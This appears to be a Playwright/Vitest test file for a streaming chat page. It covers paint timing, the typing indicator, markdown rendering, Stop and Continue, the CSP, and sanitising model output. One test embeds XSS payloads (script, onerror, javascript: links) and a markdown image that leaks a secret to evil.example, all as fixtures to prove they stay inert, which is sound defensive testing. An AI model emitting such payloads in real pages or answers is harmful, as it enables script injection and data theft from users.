/**
 * The chat page in real Chromium against the real server and emulator: streaming over several paints,
 * the typing indicator, markdown while streaming, Stop, errors with Continue, and the page's security
 * (CSP, inert model output, no remote fetches). Every test saves a screenshot to test-output/.
 */
import type { Page } from 'playwright-core';
import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { screenshot } from '../support/chromium.js';
import { ask, lastAnswer, startPageHarness, waitForAnswerEnd, type PageHarness } from './page-harness.js';

const MIXED = readFileSync('test/fixtures/markdown/mixed-answer.md', 'utf8');

let h: PageHarness;
beforeAll(async () => {
  h = await startPageHarness();
});
afterAll(async () => {
  await h?.close();
});
beforeEach(() => {
  h.emu.scripts.clear();
  h.emu.faults.clear();
  h.emu.requestLog.clear();
  h.emu.setSpeed(4);
});

/** The conversation as the page stored it (what it shows and would send next). */
async function storedMessages(page: Page): Promise<{ role: string; content: string; status?: string }[]> {
  return page.evaluate(
    () => JSON.parse(localStorage.getItem('bedrock-chat:conversation:v1') ?? '{"messages":[]}').messages,
  );
}

/** Samples, on every animation frame, how much answer text is on screen and whether the typing indicator shows. */
async function recordFrames(page: Page): Promise<void> {
  await page.evaluate(() => {
    const samples: { length: number; typing: boolean }[] = [];
    (window as unknown as { __samples: typeof samples }).__samples = samples;
    const tick = () => {
      const answers = document.querySelectorAll('li.message.assistant');
      const last = answers[answers.length - 1];
      const answer = last?.querySelector('.answer');
      const typing = last?.querySelector('.typing') as HTMLElement | null | undefined;
      samples.push({ length: answer?.textContent?.length ?? -1, typing: typing != null && !typing.hidden });
      requestAnimationFrame(tick);
    };
    requestAnimationFrame(tick);
  });
}

/** Records every line added to the polite live region. */
async function recordAnnouncements(page: Page): Promise<void> {
  await page.evaluate(() => {
    const heard: string[] = [];
    (window as unknown as { __heard: string[] }).__heard = heard;
    new MutationObserver((records) => {
      for (const record of records) for (const node of record.addedNodes) heard.push(node.textContent ?? '');
    }).observe(document.getElementById('announcer')!, { childList: true });
  });
}

describe('the chat page', () => {
  it('serves the page with a strict Content-Security-Policy and no inline script', async () => {
    const response = await fetch(h.url + '/');
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/text\/html/);
    const csp = response.headers.get('content-security-policy') ?? '';
    expect(csp).toContain("script-src 'self'");
    expect(csp).toContain("img-src 'self' data:");
    expect(csp).not.toContain('unsafe-inline');
    const html = await response.text();
    expect(html).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>/);
    // Relative asset paths: the page also works mounted under a path (`app.use('/ai', middleware)`).
    const asset = html.match(/src="(assets\/[^"]+\.js)"/)?.[1];
    expect(asset).toBeDefined();
    const js = await fetch(`${h.url}/${asset!}`, { headers: { 'accept-encoding': 'gzip' } });
    expect(js.status).toBe(200);
    expect(js.headers.get('cache-control')).toContain('immutable');
    // The chunks the entry imports are preloaded (no second round trip), and each is served.
    const preloads = [...html.matchAll(/<link rel="modulepreload" href="(assets\/chunks\/[^"]+\.js)"/g)].map(
      (m) => m[1]!,
    );
    expect(preloads.length).toBeGreaterThan(0);
    for (const chunk of preloads) expect((await fetch(`${h.url}/${chunk}`)).status).toBe(200);
    const entry = await js.text();
    const staticImports = [...entry.matchAll(/(?:from|import)\s*"\.\/(chunks\/[^"]+\.js)"/g)].map(
      (m) => `assets/${m[1]!}`,
    );
    expect(staticImports.length).toBeGreaterThan(0);
    for (const chunk of staticImports) expect(preloads).toContain(chunk);
  });

  it('shows the typing indicator until the first token, then streams the answer over several paints', async () => {
    h.emu.scripts.add({ match: { prompt: 'paint-test' }, answer: { text: MIXED } });
    h.emu.faults.add({ fault: { kind: 'slow-first-byte', ms: 1200 } });
    const { page, errors } = await h.openPage();
    await recordFrames(page);
    await recordAnnouncements(page);
    await ask(page, 'paint-test: explain streaming');
    await page.waitForSelector('li.message.assistant .typing:not([hidden])');
    await screenshot(page, 'page-typing-indicator');
    expect(await waitForAnswerEnd(page)).toBe('done');
    const samples = await page.evaluate(
      () => (window as unknown as { __samples: { length: number; typing: boolean }[] }).__samples,
    );
    // The indicator showed while nothing had arrived, and was gone by the end.
    expect(samples.some((s) => s.typing && s.length <= 0)).toBe(true);
    expect(samples.at(-1)!.typing).toBe(false);
    // The visible text grew over several frames, never shrinking.
    const lengths = samples.map((s) => s.length).filter((l) => l > 0);
    expect(new Set(lengths).size).toBeGreaterThanOrEqual(4);
    for (let i = 1; i < lengths.length; i++) expect(lengths[i]!).toBeGreaterThanOrEqual(lengths[i - 1]!);
    const messages = await storedMessages(page);
    expect(messages.at(-1)).toMatchObject({ role: 'assistant', content: MIXED, status: 'done' });
    await expect(lastAnswer(page).locator('.metrics').textContent()).resolves.toMatch(
      /first token .* tok\/s .* in \/ \d+ out .* stop: end_turn .* chunks/,
    );
    await screenshot(page, 'page-answer-done');
    // The screen reader hears whole sentences a few at a time and the end, never each chunk.
    const heard = await page.evaluate(() => (window as unknown as { __heard: string[] }).__heard);
    const chunks = Number(/(\d+) chunks/.exec((await lastAnswer(page).locator('.metrics').textContent()) ?? '')?.[1]);
    expect(heard.length).toBeGreaterThan(1);
    expect(heard.length).toBeLessThan(chunks / 3);
    expect(heard.at(-1)).toBe('Answer complete.');
    for (const line of heard.slice(0, -2)) expect(line).toMatch(/[.!?…:]$/);
    expect(errors).toEqual([]);
  });

  it('paints a burst of chunks in a few frames, not one paint per chunk', async () => {
    h.emu.scripts.add({ match: { prompt: 'burst-test' }, answer: { text: MIXED } });
    // Fast enough that many chunks arrive between two frames.
    h.emu.setSpeed(30);
    const { page } = await h.openPage();
    await page.locator('#settings-toggle').click();
    await page.locator('#smooth').uncheck();
    await recordFrames(page);
    await ask(page, 'burst-test');
    expect(await waitForAnswerEnd(page)).toBe('done');
    const samples = await page.evaluate(() => (window as unknown as { __samples: { length: number }[] }).__samples);
    const paintedFrames = new Set(samples.map((s) => s.length).filter((l) => l > 0)).size;
    const chunks = Number(/(\d+) chunks/.exec((await lastAnswer(page).locator('.metrics').textContent()) ?? '')?.[1]);
    expect(chunks).toBeGreaterThan(30);
    expect(paintedFrames).toBeLessThan(chunks / 5);
    expect((await storedMessages(page)).at(-1)!.content).toBe(MIXED);
  });

  it('renders markdown as elements while streaming, and the final DOM equals the answer rendered whole', async () => {
    h.emu.scripts.add({ match: { prompt: 'markdown-test' }, answer: { text: MIXED } });
    h.emu.setSpeed(1);
    const { page } = await h.openPage();
    await ask(page, 'markdown-test');
    // While the answer is still streaming, its table, list and code block are already elements.
    await page.waitForFunction(
      () => {
        const last = [...document.querySelectorAll('li.message.assistant')].at(-1) as HTMLElement | undefined;
        return last?.dataset.phase === 'streaming' && last.querySelector('.answer pre code') !== null;
      },
      undefined,
      { timeout: 30_000 },
    );
    const answer = lastAnswer(page).locator('.answer');
    expect(await answer.locator('li').count()).toBeGreaterThan(3);
    expect(await answer.locator('table').count()).toBe(1);
    // A code block whose fence is still open is plain text; it is highlighted once the fence closes.
    expect(await lastAnswer(page).getAttribute('data-phase')).toBe('streaming');
    await screenshot(page, 'page-markdown-streaming');
    expect(await waitForAnswerEnd(page)).toBe('done');
    await page.waitForSelector('li.message.assistant .answer pre code .hljs-keyword');
    const streamed = await answer.innerHTML();
    // A reload shows the stored answer rendered whole, at once: the same DOM.
    await page.reload();
    await page.waitForSelector('li.message.assistant .answer pre code .hljs-keyword');
    expect(await lastAnswer(page).locator('.answer').innerHTML()).toBe(streamed);
    await screenshot(page, 'page-markdown-done');
  });

  it('renders hostile model output inert and never fetches what it points at', async () => {
    const payload = [
      'Here are some tricks:',
      '<script>window.__xss = "script"</script>',
      '<img src=x onerror="window.__xss = \'img\'">',
      "[click me](javascript:window.__xss='link')",
      '[data](data:text/html,<script>window.__xss=1</script>)',
      '<svg onload="window.__xss = \'svg\'"><circle r="5"/></svg>',
      '<iframe src="javascript:parent.__xss=\'iframe\'"></iframe>',
      '<a href="#" onclick="window.__xss=\'click\'">a link</a>',
      '<style>body { display: none }</style>',
      '![secret leak](https://evil.example/leak?q=conversation-secret)',
      '<img src="https://evil.example/img.png?q=secret">',
      '[a safe link](https://example.org/page)',
      '',
      '```html',
      '<script>window.__xss = "code"</script>',
      '```',
    ].join('\n\n');
    h.emu.scripts.add({ match: { prompt: 'xss-test' }, answer: { text: payload } });
    const { page, requests } = await h.openPage();
    await ask(page, 'xss-test');
    expect(await waitForAnswerEnd(page)).toBe('done');
    // A link whose javascript: href was dropped stays inert when clicked.
    await page.locator('li.message.assistant .answer a', { hasText: 'click me' }).dispatchEvent('click');
    await page.waitForTimeout(300);
    expect(await page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss)).toBeUndefined();
    const answer = lastAnswer(page).locator('.answer');
    for (const tag of ['script', 'iframe', 'svg', 'style', 'img[src^="http"]', '[onerror]', '[onclick]', '[onload]']) {
      expect(await answer.locator(tag).count(), tag).toBe(0);
    }
    for (const link of await answer.locator('a').all()) {
      const href = (await link.getAttribute('href')) ?? '';
      expect(href).not.toMatch(/^\s*(javascript|data|vbscript):/i);
      expect(await link.getAttribute('rel')).toContain('noopener');
    }
    expect(await page.locator('body').isVisible()).toBe(true);
    expect(await answer.textContent()).toContain('secret leak');
    expect(requests.filter((url) => !url.startsWith(h.url))).toEqual([]);
    await screenshot(page, 'page-xss-inert');
  });

  it('Stop closes the upstream request and keeps the partial answer', async () => {
    h.emu.setSpeed(0.5);
    const { page } = await h.openPage();
    await ask(page, 'Tell me a long story about the sea');
    await page.waitForFunction(
      () => ([...document.querySelectorAll('li.message.assistant .answer')].at(-1)?.textContent?.length ?? 0) > 20,
    );
    await page.locator('#stop').click();
    expect(await waitForAnswerEnd(page)).toBe('stopped');
    const closed = await h.emu.requestLog.waitFor((entry) => entry.outcome === 'client-aborted', 10_000);
    expect(closed.operation).toMatch(/Stream/);
    const kept = (await storedMessages(page)).at(-1)!;
    expect(kept.status).toBe('stopped');
    expect(kept.content.length).toBeGreaterThan(20);
    expect(await lastAnswer(page).locator('.answer').textContent()).not.toBe('');
    await screenshot(page, 'page-stopped');
  });

  it('Esc before the generation id arrived still stops the generation upstream', async () => {
    h.emu.faults.add({ fault: { kind: 'slow-first-byte', ms: 1500 } });
    h.emu.setSpeed(0.5);
    const { page } = await h.openPage();
    await ask(page, 'Stop me early');
    await page.waitForSelector('li.message.assistant .typing:not([hidden])');
    await page.keyboard.press('Escape');
    expect(await waitForAnswerEnd(page)).toBe('stopped');
    const closed = await h.emu.requestLog.waitFor((entry) => entry.outcome === 'client-aborted', 15_000);
    expect(closed.operation).toMatch(/Stream/);
  });

  it('an interrupted answer keeps its text, and Continue finishes it exactly', async () => {
    h.emu.scripts.add({ match: { prompt: 'continue-test' }, answer: { text: MIXED } });
    h.emu.faults.add({
      fault: { kind: 'stream-exception', exceptionType: 'modelStreamErrorException', afterChunks: 12 },
    });
    const { page } = await h.openPage();
    await ask(page, 'continue-test');
    expect(await waitForAnswerEnd(page)).toBe('error');
    const partial = (await storedMessages(page)).at(-1)!;
    expect(partial.status).toBe('error');
    expect(partial.content.length).toBeGreaterThan(0);
    expect(MIXED.startsWith(partial.content)).toBe(true);
    expect(await lastAnswer(page).locator('.status').isVisible()).toBe(true);
    expect(await lastAnswer(page).getByRole('button', { name: 'Retry' }).isVisible()).toBe(true);
    await screenshot(page, 'page-interrupted');
    await lastAnswer(page).getByRole('button', { name: 'Continue' }).click();
    expect(await waitForAnswerEnd(page)).toBe('done');
    const whole = (await storedMessages(page)).at(-1)!;
    expect(whole.content).toBe(MIXED);
    await screenshot(page, 'page-continued');
  });
});
